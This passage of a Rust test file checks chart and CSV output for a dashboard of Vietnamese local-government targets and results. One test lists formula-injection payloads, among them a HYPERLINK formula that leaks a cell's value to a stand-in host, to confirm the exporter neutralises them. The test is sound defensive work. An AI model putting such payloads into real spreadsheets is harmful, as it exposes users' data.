//! Chart specifications on the test dataset and on the default dataset's real cases.

use super::*;
use crate::i18n::Lang;
use crate::index::DatasetIndex;
use crate::load::load;
use crate::model::{Record, Status, TargetShape};

fn sample() -> DatasetIndex {
    DatasetIndex::new(load(&crate::load::tests::valid_json().to_string()).into_valid().unwrap())
}

fn default_dataset() -> DatasetIndex {
    DatasetIndex::new(load(include_str!("../../../../public/data/default.json")).into_valid().unwrap())
}

#[test]
fn ranking_orders_bars_by_percent_of_target_with_vietnamese_labels() {
    let chart = ranking(&sample(), "l1", "2020-2025", &Filter::default(), Lang::Vi);
    let labels: Vec<&str> = chart.bars.iter().map(|bar| bar.label.as_str()).collect();
    assert_eq!(labels, ["Tỉ lệ BHYT", "Thu nhập"]);
    assert_eq!((chart.bars[1].value_text.as_str(), chart.bars[1].status_text.as_str()), ("88,05\u{a0}%", "Không đạt"));
    assert_eq!(chart.bars[1].value_with_status(), "88,05\u{a0}% · Không đạt");
    assert_eq!(chart.reference, Some(100.0));
    assert!(chart.description.contains("1/2 chỉ tiêu đạt hoặc vượt"), "{}", chart.description);
}

#[test]
fn a_search_that_matches_nothing_says_so_rather_than_that_nothing_has_a_percent_of_target() {
    let search = Filter { query: "không có chỉ tiêu này".into(), ..Filter::default() };
    let chart = ranking(&sample(), "l1", "2020-2025", &search, Lang::Vi);
    assert!(chart.bars.is_empty());
    assert!(chart.description.contains("không có chỉ tiêu nào vừa khớp bộ lọc, tìm kiếm"), "{}", chart.description);
    assert!(!chart.description.contains("chưa có chỉ tiêu nào tính được"), "{}", chart.description);
    // The English example in the search box finds its indicator.
    let english = Filter { query: "poor households".into(), ..Filter::default() };
    let index = crate::DatasetIndex::new(
        crate::load::load(include_str!("../../../../public/data/default.json")).into_valid().unwrap(),
    );
    let found: Vec<&str> = index
        .locality_terms()
        .iter()
        .flat_map(|(locality, term)| index.rows(locality, term))
        .filter(|row| english.accepts(row.indicator, row.evaluation))
        .map(|row| row.indicator.id.as_str())
        .collect();
    assert!(found.contains(&"poverty-rate"), "{found:?}");
}

#[test]
fn ranking_in_english_uses_english_numbers_and_words() {
    let chart = ranking(&sample(), "l1", "2020-2025", &Filter::default(), Lang::En);
    assert_eq!(
        (chart.bars[1].value_text.as_str(), chart.bars[1].status_text.as_str()),
        ("88.05\u{a0}%", "Not achieved")
    );
    assert_eq!(chart.bars[1].value_with_status(), "88.05\u{a0}% · Not achieved");
    assert!(chart.description.starts_with("Thị trấn A, 2020-2025: 1 of 2 indicators"));
}

#[test]
fn ranking_follows_domain_status_and_search_filters() {
    let dataset = default_dataset();
    let all = ranking(&dataset, "ben-sung", "2020-2025", &Filter::default(), Lang::Vi);
    let economy = Filter { domain: Some("economy".into()), ..Filter::default() };
    let only_economy = ranking(&dataset, "ben-sung", "2020-2025", &economy, Lang::Vi);
    assert!(only_economy.bars.len() < all.bars.len() && !only_economy.bars.is_empty());
    let failing = Filter { status: Some(Status::NotAchieved), ..Filter::default() };
    let not_achieved = ranking(&dataset, "ben-sung", "2020-2025", &failing, Lang::Vi);
    assert!(not_achieved.bars.iter().all(|bar| bar.status == Some(Status::NotAchieved)));
    assert_eq!(not_achieved.bars.len(), 3, "income, investment, budget revenue have a %");
    let search = Filter { query: "thu nhap".into(), ..Filter::default() };
    let found = ranking(&dataset, "ben-sung", "2020-2025", &search, Lang::Vi);
    assert_eq!(found.bars.iter().map(|bar| bar.key.as_str()).collect::<Vec<_>>(), ["income-per-capita"]);
}

#[test]
fn the_table_twin_has_exactly_the_bars_and_sorts_numerically() {
    let dataset = default_dataset();
    let chart = ranking(&dataset, "ben-sung", "2020-2025", &Filter::default(), Lang::Vi);
    let mut table = chart.table();
    assert_eq!(table.rows.len(), chart.bars.len());
    table.sort_by(4, true);
    let values: Vec<f64> = table.rows.iter().map(|row| row[4].number.unwrap()).collect();
    assert!(values.windows(2).all(|pair| pair[0] <= pair[1]));
    assert_eq!(table.rows[0][0].text, "Tổng thu ngân sách Nhà nước trong nhiệm kỳ");
    // Each % sits beside what it is of, the figures an official pastes (outside tester: "the CSV
    // holds % only"): the unit, the target and the result, numbers where they are numbers.
    let income = table.rows.iter().find(|row| row[0].text.starts_with("Thu nhập bình quân")).unwrap();
    let cells: Vec<(&str, Option<f64>)> = income.iter().map(|cell| (cell.text.as_str(), cell.number)).collect();
    assert_eq!(cells[..2], [("Thu nhập bình quân đầu người", None), ("triệu đồng/người/năm", None)]);
    assert_eq!(cells[2].0, "87\u{a0}triệu đồng/người/năm (suy ra)", "derived from the source's 88,05 %");
    assert!((cells[2].1.unwrap() - 87.0).abs() < 0.01);
    assert_eq!(cells[3], ("ước 76,6\u{a0}triệu đồng/người/năm (2025)", Some(76.6)));
    assert_eq!(cells[4..], [("88,05\u{a0}%", Some(88.05)), ("Không đạt", None)]);
    let csv = table.to_csv(Lang::Vi, &[]);
    assert!(csv.starts_with("\u{feff}Chỉ tiêu;Đơn vị;Mục tiêu;Kết quả;% mục tiêu;Trạng thái\r\n"), "{csv}");
    // The number stays a number; the notes say which targets were derived and which are estimates.
    let notes = csv.split("\r\n\r\n").nth(1).unwrap();
    assert!(
        notes.contains("Mục tiêu suy ra từ kết quả (nguồn không ghi mục tiêu, chỉ ghi mức đạt hoặc vượt): "),
        "{notes}"
    );
    assert!(notes.contains("Thu nhập bình quân đầu người") && notes.contains("Số ước tính: "), "{notes}");
}

#[test]
fn csv_is_what_a_spreadsheet_in_the_readers_language_reads_as_columns_of_numbers() {
    let table = Table {
        caption: "c".into(),
        headers: vec!["Chỉ tiêu".into(), "Giá trị".into(), "Mục tiêu".into()],
        rows: vec![
            vec![
                Cell::text("Nông; lâm, \"nghiệp\""),
                Cell::number("2.732,16", 2732.16),
                Cell::number("≥ 2.500", 2500.0),
            ],
            vec![Cell::text("Giảm"), Cell::number("-0,09", -0.09), Cell::number("100", 100.0)],
            vec![Cell::text("Ước"), Cell::number("ước 76,6 tỷ đồng (2025)", 76.6), Cell::text("không nêu")],
        ],
        unit: "tỷ đồng".into(),
    };
    let notes = vec!["Nguồn: Nghị quyết".to_string()];
    // Vietnamese: ";" between cells, a decimal comma, no grouping, the unit in the header; a bound
    // keeps its sign as text.
    assert_eq!(
        table.to_csv(Lang::Vi, &notes),
        "\u{feff}Chỉ tiêu;Giá trị (tỷ đồng);Mục tiêu (tỷ đồng)\r\n\"Nông; lâm, \"\"nghiệp\"\"\";2732,16;≥ 2.500\r\nGiảm;-0,09;100\r\nƯớc;76,6;không nêu\r\n\r\nNguồn: Nghị quyết\r\nSố ước tính: Ước (giá trị).\r\n"
    );
    assert_eq!(
        table.to_csv(Lang::En, &[]),
        "\u{feff}Chỉ tiêu,Giá trị (tỷ đồng),Mục tiêu (tỷ đồng)\r\n\"Nông; lâm, \"\"nghiệp\"\"\",2732.16,≥ 2.500\r\nGiảm,-0.09,100\r\nƯớc,\"ước 76,6 tỷ đồng (2025)\",không nêu\r\n"
    );
}

#[test]
fn domain_breakdown_counts_statuses_per_domain() {
    let chart = domain_breakdown(&default_dataset(), "ben-sung", "2020-2025", Lang::Vi);
    assert_eq!(chart.rows.len(), 5);
    let total: f64 = chart.rows.iter().flat_map(|row| &row.segments).map(|segment| segment.value).sum();
    assert_eq!(total, 56.0, "every record of Bến Sung 2020-2025 counted once");
    assert!(chart.description.contains("Nguồn ghi: 23/26"));
    let table = chart.table();
    assert_eq!(table.rows.len(), 5);
    // The table (and so the CSV and workbook) holds the counts the chart draws, every one of them:
    // the legend's labels carry a status symbol the segments' do not.
    let table_total: f64 = table.rows.iter().flat_map(|row| &row[1..]).filter_map(|cell| cell.number).sum();
    assert_eq!(table_total, total);
    let economy: Vec<&str> = table.rows[0].iter().map(|cell| cell.text.as_str()).collect();
    assert_eq!(economy, ["Kinh tế", "6", "4", "4", "2"], "{:?}", table.headers);
    // Its headers are words, without the legend's symbols.
    assert_eq!(table.headers, ["Nhóm", "Vượt", "Đạt", "Không đạt", "Không có mục tiêu"]);
}

#[test]
fn indicator_detail_for_bến_sung_income_derives_the_target_and_says_it() {
    let detail = indicator_detail(&default_dataset(), "ben-sung", "2020-2025", "income-per-capita", Lang::Vi).unwrap();
    assert_eq!(detail.status, Some(Status::NotAchieved));
    assert_eq!(
        detail.bullet.description,
        "Thu nhập bình quân đầu người, Thị trấn Bến Sung, 2020-2025: mục tiêu 87\u{a0}triệu đồng/người/năm, kết quả ước 76,6\u{a0}triệu đồng/người/năm (2025) (88,05\u{a0}% mục tiêu) — không đạt."
    );
    assert_eq!(
        detail.findings,
        ["Nguồn không ghi mục tiêu này. Mục tiêu 87\u{a0}triệu đồng/người/năm được suy ra từ kết quả ước 76,6\u{a0}triệu đồng/người/năm (2025), mà nguồn nói là đạt 88,05\u{a0}% mục tiêu."]
    );
    assert_eq!(detail.provenance.len(), 1);
    assert!(detail.provenance[0].quote.contains("76,6 triệu đồng"));
    assert_eq!(detail.provenance[0].file, "001_c83031c752d89291.txt");
    let across = detail.across_terms.as_ref().expect("values across terms");
    let terms: Vec<&str> = across.columns.iter().map(|column| column.label.as_str()).collect();
    assert_eq!(terms, ["2020-2025", "2025-2030"], "this term's result and the next term's target");
    assert_eq!(across.columns[1].target, Some(92.0));
}

#[test]
fn contradictions_in_the_sources_are_shown_in_words() {
    let detail =
        indicator_detail(&default_dataset(), "ben-sung", "2020-2025", "investment-mobilised", Lang::Vi).unwrap();
    assert!(detail.findings.iter().any(|finding| finding.contains("hai số liệu mâu thuẫn")), "{:?}", detail.findings);
    let labour = indicator_detail(&default_dataset(), "ben-sung", "2020-2025", "trained-labour", Lang::En).unwrap();
    assert!(
        labour.findings.iter().any(|finding| finding.contains("imply two different targets")),
        "{:?}",
        labour.findings
    );
}

#[test]
fn a_baseline_and_a_later_year_make_an_in_term_series() {
    let detail = indicator_detail(&default_dataset(), "cho-moi", "2015-2020", "poverty-rate", Lang::Vi).unwrap();
    let series = detail.series.expect("two dated results");
    let labels: Vec<&str> = series.columns.iter().map(|column| column.label.as_str()).collect();
    assert_eq!(labels, ["2015", "2019"]);
    // Each year's figure without a target of its own is said as a result, not "mục tiêu , …".
    for column in series.columns.iter().filter(|column| column.target_label.is_empty()) {
        assert!(series.description.contains(&format!("{}: kết quả {}", column.label, column.value_label)));
    }
    assert!(!series.description.contains("mục tiêu ,"), "{}", series.description);
}

#[test]
fn compare_puts_localities_side_by_side_within_the_term_and_across_terms_only_when_asked() {
    let dataset = default_dataset();
    let comparable: Vec<&str> = comparable_indicators(&dataset).iter().map(|i| i.id.as_str()).collect();
    assert!(comparable.contains(&"poverty-rate") && comparable.contains(&"health-insurance"), "{comparable:?}");
    let in_2020: Vec<&str> =
        comparable_indicators_in_term(&dataset, "2020-2025").iter().map(|i| i.id.as_str()).collect();
    assert!(in_2020.contains(&"poverty-rate") && !in_2020.contains(&"cultural-families"), "{in_2020:?}");
    // Two localities report poverty in 2020-2025: Bến Sung's result beside Chợ Mới's target.
    let in_term = compare(&dataset, "poverty-rate", Some("2020-2025"), None, Lang::Vi).unwrap();
    let labels: Vec<&str> = in_term.columns.iter().map(|column| column.label.as_str()).collect();
    // Within a term, the title names it and each column its place (no label cut short to "…").
    assert_eq!(labels, ["Thị trấn Bến Sung", "Huyện Chợ Mới"]);
    assert!(in_term.title.contains("(2020-2025)"), "{}", in_term.title);
    assert_eq!((in_term.columns[0].value, in_term.columns[1].target), (Some(1.1), Some(4.0)));
    // Only Kbang reports cultural families in 2015-2020: the term's one column, no other term's.
    let alone = compare(&dataset, "cultural-families", Some("2015-2020"), None, Lang::Vi).unwrap();
    let labels: Vec<&str> = alone.columns.iter().map(|column| column.label.as_str()).collect();
    assert_eq!(labels, ["Thị trấn Kbang"]);
    assert!(alone.title.contains("2015-2020"), "{}", alone.title);
    // Across the terms only when no term is asked for.
    let across = compare(&dataset, "cultural-families", None, None, Lang::Vi).unwrap();
    let labels: Vec<&str> = across.columns.iter().map(|column| column.label.as_str()).collect();
    assert_eq!(labels, ["Thị trấn Kbang 2015-2020", "Thị trấn Bến Sung 2020-2025", "Thị trấn Bến Sung 2025-2030"]);
    assert!(across.title.contains("các nhiệm kỳ"));
    assert!(compare(&dataset, "cultural-families", Some("1990-1995"), None, Lang::Vi).is_none());
}

#[test]
fn structure_shows_kbangs_target_composition() {
    let chart = structure(&default_dataset(), "kbang", Lang::Vi);
    assert_eq!(chart.rows.len(), 1);
    assert_eq!(chart.rows[0].label, "2015-2020 (mục tiêu)");
    let shares: Vec<f64> = chart.rows[0].segments.iter().map(|segment| segment.value).collect();
    assert_eq!(shares, [48.5, 19.0, 32.5]);
    assert_eq!(chart.legend.len(), 3);
}

#[test]
fn target_phrases_cover_every_shape() {
    let record = Record {
        locality: "l".into(),
        indicator: "i".into(),
        term: "t".into(),
        target: Some(crate::model::Target {
            deadline_year: Some(2028),
            ..crate::model::Target::new(TargetShape::Milestone)
        }),
        results: vec![],
        stated_status: None,
    };
    let percent = indicator_with_unit("%");
    let phrase = |shape: TargetShape| target_phrase(Some(&shape), None, &percent, &record, Lang::Vi);
    assert_eq!(phrase(TargetShape::AtLeast { value: 96.0 }), "≥ 96\u{a0}%");
    assert_eq!(phrase(TargetShape::Below { value: 4.0 }), "< 4\u{a0}%");
    assert_eq!(phrase(TargetShape::CountOfTotal { count: 14.0, total: 16.0 }), "14/16 %");
    assert_eq!(phrase(TargetShape::Milestone), "hoàn thành vào năm 2028");
    assert_eq!(phrase(TargetShape::ChangePerYear { value: -0.09 }), "giảm 0,09\u{a0}%");
    assert_eq!(phrase(TargetShape::AverageGrowth { value: 12.0 }), "tăng bình quân 12\u{a0}%/năm");
    assert_eq!(phrase(TargetShape::Range { min: 1.0, max: 2.0 }), "1–2\u{a0}%");
}

#[test]
fn csv_neutralises_cells_a_spreadsheet_would_run_as_formulas_but_keeps_numbers() {
    use crate::chart::{Cell, Table};
    let hostile = ["=HYPERLINK(\"http://x/?leak=\"&A2,\"Bấm vào đây\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];
    let table = Table {
        caption: String::new(),
        headers: vec!["=header".into(), "Giá trị".into()],
        rows: hostile.iter().map(|text| vec![Cell::text(*text), Cell::number("-0,09 %", -0.09)]).collect(),
        unit: String::new(),
    };
    let csv = table.to_csv(Lang::Vi, &[]);
    let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').split("\r\n").filter(|line| !line.is_empty()).collect();
    assert_eq!(lines[0], "'=header;Giá trị");
    for line in &lines[1..] {
        let first = line.trim_start_matches('"');
        assert!(first.starts_with('\''), "neutralised: {line:?}");
        assert!(line.ends_with(";-0,09"), "numbers stay numbers: {line:?}");
    }
    assert_eq!(crate::chart::neutralise_formula("Tỷ lệ hộ nghèo"), "Tỷ lệ hộ nghèo");
}

/// The sample dataset with reductions written as negative numbers, a bound met by a negative
/// result, and a result far worse than its target.
fn negative_figures() -> DatasetIndex {
    let mut json = crate::load::tests::valid_json();
    let source = serde_json::json!({"source": "s1", "quote": "q"});
    let indicator = |id: &str, direction: &str| {
        serde_json::json!({"id": id, "name": {"vi": id}, "domain": "economy", "unit": {"vi": "%"},
                           "direction": direction, "kind": "rate"})
    };
    let record = |id: &str, shape: &str, target: f64, result: f64| {
        serde_json::json!({"locality": "l1", "indicator": id, "term": "2020-2025",
                           "target": {"shape": shape, "value": target, "source": source},
                           "results": [{"value": result, "source": source}]})
    };
    for (id, direction) in
        [("poverty-change", "lower_is_better"), ("births", "lower_is_better"), ("malnutrition", "lower_is_better")]
    {
        json["indicators"].as_array_mut().unwrap().push(indicator(id, direction));
    }
    let records = json["records"].as_array_mut().unwrap();
    records.push(record("poverty-change", "change_per_year", -0.09, -0.1));
    records.push(record("births", "at_most", 0.5, -0.2));
    records.push(record("malnutrition", "level", 1.0, 3.0));
    DatasetIndex::new(load(&json.to_string()).into_valid().unwrap())
}

#[test]
fn the_ranking_orders_by_the_documented_percent_and_names_the_worst_as_lowest() {
    let chart = ranking(&negative_figures(), "l1", "2020-2025", &Filter::default(), Lang::En);
    let order: Vec<(&str, Option<Status>)> = chart.bars.iter().map(|bar| (bar.key.as_str(), bar.status)).collect();
    assert_eq!(
        order,
        [
            ("births", Some(Status::Exceeded)),
            ("poverty-change", Some(Status::Exceeded)),
            ("insured", Some(Status::Exceeded)),
            ("income", Some(Status::NotAchieved)),
            ("malnutrition", Some(Status::NotAchieved)),
        ]
    );
    let values: Vec<String> = chart.bars.iter().map(|bar| bar.value_text.clone()).collect();
    assert_eq!(values, ["240\u{a0}%", "111.11\u{a0}%", "100.63\u{a0}%", "88.05\u{a0}%", "-100\u{a0}%"]);
    for bar in &chart.bars {
        let met = bar.status.is_some_and(Status::is_met);
        assert_eq!(met, bar.value >= 100.0, "{}: the status and the percent agree", bar.key);
    }
    assert!(
        chart.description.ends_with("the lowest is malnutrition at -100\u{a0}% of target."),
        "{}",
        chart.description
    );
    assert_eq!((chart.axis_min, chart.axis_max), (-100.0, 200.0));
}

#[test]
fn qualitative_bands_run_from_poor_to_good_in_the_better_direction() {
    use crate::evaluate::percent_of_target;
    use crate::model::Direction;
    let quality_of = |percent: f64| match percent {
        percent if percent < 50.0 => BandQuality::Poor,
        percent if percent < 90.0 => BandQuality::Fair,
        _ => BandQuality::Good,
    };
    let rank = |quality: BandQuality| match quality {
        BandQuality::Poor => 0,
        BandQuality::Fair => 1,
        BandQuality::Good => 2,
    };
    for better in [Direction::HigherIsBetter, Direction::LowerIsBetter, Direction::TargetIsBest] {
        for target in [87.0_f64, -1.3] {
            let axis = (target.min(0.0) * 3.0 - 1.0, target.max(0.0) * 3.0 + 1.0);
            let bands = super::indicator::qualitative_bands(target, better, axis);
            let case = format!("{better:?}, target {target}");
            assert_eq!(bands.first().map(|band| band.from), Some(axis.0), "{case}: from the axis start");
            assert_eq!(bands.last().map(|band| band.to), Some(axis.1), "{case}: to the axis end");
            assert!(bands.windows(2).all(|pair| pair[0].to == pair[1].from), "{case}: contiguous");
            for band in &bands {
                let middle = (band.from + band.to) / 2.0;
                let percent = percent_of_target(middle, target, better).unwrap();
                assert_eq!(band.quality, quality_of(percent), "{case}: {band:?} at {percent} %");
            }
            let ranks: Vec<i32> = bands.iter().map(|band| rank(band.quality)).collect();
            match better {
                Direction::HigherIsBetter => assert!(ranks.windows(2).all(|pair| pair[0] < pair[1]), "{case}"),
                Direction::LowerIsBetter => assert!(ranks.windows(2).all(|pair| pair[0] > pair[1]), "{case}"),
                Direction::TargetIsBest => {
                    let good = bands.iter().find(|band| band.quality == BandQuality::Good).unwrap();
                    assert!(good.from < target && target < good.to, "{case}: good around the target");
                }
            }
        }
        assert!(super::indicator::qualitative_bands(0.0, better, (-1.0, 1.0)).is_empty(), "no % of a zero target");
    }
}

#[test]
fn a_derived_target_is_explained_once_in_the_findings_and_nowhere_else() {
    let index = default_dataset();
    for lang in [Lang::Vi, Lang::En] {
        let marker = lang.pick("suy ra", "derived");
        let explanation = lang.pick("Nguồn không ghi mục tiêu này.", "The source does not state this target.");
        for (locality, term) in index.locality_terms() {
            for row in index.rows(locality, term) {
                let detail = indicator_detail(&index, locality, term, &row.indicator.id, lang).unwrap();
                let explained = detail.findings.iter().filter(|finding| finding.starts_with(explanation)).count();
                let expected = usize::from(row.evaluation.target_derived);
                assert_eq!(explained, expected, "{locality} {term} {}: {:?}", row.indicator.id, detail.findings);
                let across = detail.across_terms.as_ref().map(|across| &across.description);
                let elsewhere = [&detail.bullet.description, &detail.bullet.target_label].into_iter().chain(across);
                assert!(
                    elsewhere.into_iter().all(|text| !text.contains(marker)),
                    "{locality} {term} {}",
                    row.indicator.id
                );
            }
        }
        // A slide says it only in the findings after its sentence (the figures' own words never).
        for slide in crate::slides::slides(&index, &Default::default(), lang) {
            let figures = slide.sentence.split(explanation).next().unwrap_or_default();
            assert!(!slide.title.contains(marker) && !figures.contains(marker), "{}", slide.sentence);
        }
    }
    let growth = indicator_detail(&index, "ben-sung", "2020-2025", "production-value-growth", Lang::En).unwrap();
    assert!(
        growth.findings[0].ends_with("which the source says exceeds the target by 6.7\u{a0}%."),
        "{:?}",
        growth.findings
    );
}

#[test]
fn a_unit_per_year_is_not_followed_by_per_year_again() {
    let record = Record {
        locality: "l".into(),
        indicator: "i".into(),
        term: "t".into(),
        target: None,
        results: vec![],
        stated_status: None,
    };
    let average = TargetShape::AnnualAverage { value: 25000.0 };
    let cases = [
        // (unit, language, phrase)
        ("tấn/năm", Lang::Vi, "bình quân 25.000\u{a0}tấn/năm"),
        ("tấn", Lang::Vi, "bình quân 25.000\u{a0}tấn mỗi năm"),
        ("tonnes/year", Lang::En, "25,000\u{a0}tonnes/year on average"),
        ("tonnes", Lang::En, "25,000\u{a0}tonnes a year on average"),
        ("triệu đồng/người/năm", Lang::Vi, "bình quân 25.000\u{a0}triệu đồng/người/năm"),
    ];
    for (unit, lang, expected) in cases {
        assert_eq!(target_phrase(Some(&average), None, &indicator_with_unit(unit), &record, lang), expected);
    }
}

#[test]
fn a_missing_result_is_not_called_a_result_that_is_no_result() {
    let index = default_dataset();
    for lang in [Lang::Vi, Lang::En] {
        let repeated = lang.pick("kết quả chưa có kết quả", "result no result");
        for (locality, term) in index.locality_terms() {
            for row in index.rows(locality, term) {
                let detail = indicator_detail(&index, locality, term, &row.indicator.id, lang).unwrap();
                let no_result = lang.pick("chưa có kết quả", "no result");
                let across = detail.across_terms.as_ref().map(|across| &across.description);
                for text in [&detail.bullet.description].into_iter().chain(across) {
                    assert!(!text.to_lowercase().contains(repeated), "{text}");
                    assert!(text.to_lowercase().matches(no_result).count() <= 1, "{text}");
                }
            }
        }
    }
    // Kbang's 2015-2020 targets have no result and are overdue: the sentence says so once.
    let detail = indicator_detail(&index, "kbang", "2015-2020", "poverty-rate", Lang::Vi).unwrap();
    assert_eq!(detail.status, Some(Status::NoResult));
    assert!(
        detail.bullet.description.ends_with("mục tiêu 1,44\u{a0}%; chưa có kết quả."),
        "{}",
        detail.bullet.description
    );
    assert!(
        detail.across_terms.as_ref().unwrap().description.contains("2015-2020: mục tiêu 1,44\u{a0}%, kết quả chưa có"),
        "{}",
        detail.across_terms.as_ref().unwrap().description
    );
}

#[test]
fn a_name_with_direction_controls_is_isolated_from_the_apps_own_text() {
    use crate::chart::isolate_direction;
    assert_eq!(isolate_direction("Thị trấn Bến Sung"), "Thị trấn Bến Sung", "ordinary names are unchanged");
    for name in ["\u{202E}đảo ngược", "مدينة", "שלום", "a\u{200F}b", "\u{2067}x"] {
        let isolated = isolate_direction(name);
        assert!(isolated.starts_with('\u{2068}') && isolated.ends_with('\u{2069}'), "{name:?} → {isolated:?}");
    }
}

#[test]
fn a_results_shares_follow_the_targets_order_however_they_are_spelt() {
    let mut dataset = crate::load::tests::valid_json();
    dataset["indicators"].as_array_mut().unwrap().push(serde_json::json!(
        {"id": "structure", "name": {"vi": "Cơ cấu"}, "domain": "economy", "unit": {"vi": "%"},
         "direction": "target_is_best", "kind": "composition"}));
    dataset["records"].as_array_mut().unwrap().push(serde_json::json!(
        {"locality": "l1", "indicator": "structure", "term": "2020-2025",
         "target": {"shape": "composition", "parts": [
             {"part": {"vi": "Dịch vụ"}, "value": 50}, {"part": {"vi": "Nông nghiệp, thuỷ sản"}, "value": 50}],
             "source": {"source": "s1", "quote": "q"}},
         "results": [{"parts": [
             {"part": {"vi": "Nông nghiệp, thủy sản"}, "value": 45}, {"part": {"vi": "Dịch vụ"}, "value": 55}],
             "period": {"year": 2025}, "source": {"source": "s1", "quote": "q"}}]}));
    let index = DatasetIndex::new(crate::load::load(&dataset.to_string()).into_valid().unwrap());
    let chart = structure(&index, "l1", Lang::Vi);
    let values: Vec<Vec<f64>> = chart.rows.iter().map(|row| row.segments.iter().map(|s| s.value).collect()).collect();
    assert_eq!(values, [vec![50.0, 50.0], vec![55.0, 45.0]]);
}

fn indicator_with_unit(unit: &str) -> crate::model::Indicator {
    use crate::model::{Direction, Indicator, IndicatorKind, Text};
    Indicator::new(
        "i",
        Text::new("chỉ tiêu", "indicator"),
        "economy",
        Text::new(unit, unit),
        Direction::HigherIsBetter,
        IndicatorKind::Amount,
    )
}

fn extended() -> DatasetIndex {
    DatasetIndex::new(load(&crate::load::tests::with_extensions().to_string()).into_valid().unwrap())
}

#[test]
fn a_rating_is_drawn_as_a_ladder_of_its_grades_with_the_grade_reached_marked() {
    let detail = indicator_detail(&extended(), "l1", "2020-2025", "rated", Lang::Vi).unwrap();
    // "Hoàn thành nhiệm vụ" in 2021 against "hoàn thành tốt nhiệm vụ trở lên" every year: missed.
    assert_eq!(detail.status, Some(Status::NotAchieved));
    assert_eq!(detail.bullet.target_label, "Hoàn thành tốt nhiệm vụ trở lên hằng năm");
    let ChartSpec::Stacked(ladder) = &detail.main_chart else { panic!("{:?}", detail.main_chart) };
    assert_eq!(ladder.rows.len(), 1);
    assert_eq!(ladder.rows[0].label, "2021");
    let steps: Vec<(Option<&str>, Colour)> =
        ladder.rows[0].segments.iter().map(|segment| (segment.inner_text.as_deref(), segment.colour)).collect();
    assert_eq!(
        steps,
        [
            (Some("● Hoàn thành nhiệm vụ"), Colour::Status(Some(Status::NotAchieved))),
            (Some("▲ Hoàn thành tốt nhiệm vụ"), Colour::Status(None)),
        ]
    );
    assert!(ladder.legend.iter().any(|(words, _)| words == "▲ Mục tiêu: Hoàn thành tốt nhiệm vụ trở lên"));
    assert!(detail.across_terms.is_none(), "a grade has no value axis");
}

#[test]
fn a_share_with_a_count_says_both_and_a_sub_target_names_its_parent() {
    let index = extended();
    let detail = indicator_detail(&index, "l1", "2020-2025", "nrm", Lang::Vi).unwrap();
    assert_eq!(detail.bullet.target_label, "≥ 50\u{a0}% (8\u{a0}xã)");
    assert_eq!(detail.bullet.value_label, "9\u{a0}xã");
    assert_eq!(detail.status, Some(Status::Exceeded));
    let english = indicator_detail(&index, "l1", "2020-2025", "nrm", Lang::En).unwrap();
    assert_eq!(english.bullet.target_label, "≥ 50\u{a0}% (8\u{a0}communes)");
    assert_eq!(detail.part_of, None);
    let mut dataset = index.dataset().clone();
    dataset.records.push(Record {
        locality: "l1".into(),
        indicator: "income-farm".into(),
        term: "2020-2025".into(),
        target: None,
        results: vec![],
        stated_status: None,
    });
    let detail = indicator_detail(&DatasetIndex::new(dataset), "l1", "2020-2025", "income-farm", Lang::Vi).unwrap();
    assert_eq!(detail.part_of.as_deref(), Some("Thu nhập"));
}

#[test]
fn each_year_of_a_target_for_every_year_is_coloured_by_its_own_status() {
    let mut dataset = extended().dataset().clone();
    let record = dataset.records.iter_mut().find(|record| record.indicator == "income").unwrap();
    record.target.as_mut().unwrap().every_year = true;
    let year = |value: f64, year: i32| crate::model::Outcome {
        value: Some(value),
        period: crate::model::Period { year: Some(year), quarter: None },
        ..record.results[0].clone()
    };
    record.results = vec![year(90.0, 2021), year(80.0, 2022), year(87.0, 2023)];
    let detail = indicator_detail(&DatasetIndex::new(dataset), "l1", "2020-2025", "income", Lang::Vi).unwrap();
    assert_eq!(detail.status, Some(Status::NotAchieved), "2022 missed the yearly target");
    let series = detail.series.unwrap();
    let statuses: Vec<(&str, Option<Status>)> =
        series.columns.iter().map(|column| (column.label.as_str(), column.status)).collect();
    assert_eq!(
        statuses,
        [("2021", Some(Status::Exceeded)), ("2022", Some(Status::NotAchieved)), ("2023", Some(Status::Achieved))]
    );
}

#[test]
fn bến_sung_investment_shows_its_two_readings_as_its_status() {
    let index = default_dataset();
    let detail = indicator_detail(&index, "ben-sung", "2020-2025", "investment-mobilised", Lang::Vi).unwrap();
    assert_eq!(detail.status_label, "Không đạt hoặc vượt (nguồn mâu thuẫn)");
    let english = indicator_detail(&index, "ben-sung", "2020-2025", "investment-mobilised", Lang::En).unwrap();
    assert_eq!(english.status_label, "Not achieved or exceeded (the source contradicts itself)");
}

#[test]
fn a_target_for_every_year_says_so_once_in_its_phrase() {
    let record = |shape: TargetShape| Record {
        locality: "l".into(),
        indicator: "i".into(),
        term: "t".into(),
        target: Some(crate::model::Target { every_year: true, ..crate::model::Target::new(shape) }),
        results: vec![],
        stated_status: None,
    };
    let percent = indicator_with_unit("%");
    let cases = [
        (TargetShape::Milestone, Lang::Vi, "hoàn thành hằng năm"),
        (TargetShape::Milestone, Lang::En, "done every year"),
        (TargetShape::Below { value: 4.0 }, Lang::Vi, "< 4\u{a0}% hằng năm"),
        (TargetShape::Maintain { value: 100.0 }, Lang::En, "keep 100\u{a0}% every year"),
    ];
    for (shape, lang, expected) in cases {
        assert_eq!(target_phrase(Some(&shape), None, &percent, &record(shape.clone()), lang), expected);
    }
}

/// A province: hundreds of places. The comparison draws the best and worst ten by % of target,
/// says how many places there are and how many met the target, and its table lists every place.
#[test]
fn a_comparison_of_hundreds_of_places_draws_the_best_and_worst_and_tables_them_all() {
    let mut json = crate::reading::tests::with_localities(300);
    for (position, record) in json["records"].as_array_mut().unwrap().iter_mut().enumerate() {
        // The income target is 87: results from 50 to 109 across places.
        if record["indicator"] == "income" {
            record["results"][0]["value"] = (50.0 + (position / 2 % 60) as f64).into();
        }
    }
    let index = DatasetIndex::new(load(&json.to_string()).into_valid().unwrap());
    let chart = compare(&index, "income", Some("2020-2025"), None, Lang::Vi).unwrap();
    assert_eq!((chart.columns.len(), chart.omitted.len()), (MANY_PLACES, 300 - MANY_PLACES));
    assert!(chart.title.contains("10 cao nhất và 10 thấp nhất trong 300 địa phương"), "{}", chart.title);
    let values: Vec<f64> = chart.columns.iter().chain(&chart.omitted).map(|column| column.value.unwrap()).collect();
    assert_eq!(chart.columns[0].value, Some(109.0));
    assert_eq!(chart.columns[MANY_PLACES - 1].value, Some(50.0));
    assert!(values.len() == 300 && values.iter().all(|value| (50.0..=109.0).contains(value)));
    // 87 and above met the target: 23 of every 60 places.
